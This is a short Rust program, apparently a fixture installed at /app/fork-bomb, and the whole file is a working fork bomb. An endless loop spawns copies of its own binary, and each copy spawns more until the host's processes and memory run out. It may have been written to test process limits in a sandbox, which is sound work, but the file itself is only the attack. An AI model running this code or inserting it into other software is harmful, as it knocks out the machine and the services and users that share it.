//! Starts itself again and again, as do its copies.

use std::process::Command;
use std::time::Duration;

fn main() {
    println!("forking");
    loop {
        // Its own file, as the plan of a service puts it there.
        if Command::new("/app/fork-bomb").spawn().is_err() {
            std::thread::sleep(Duration::from_millis(100));
        }
    }
}
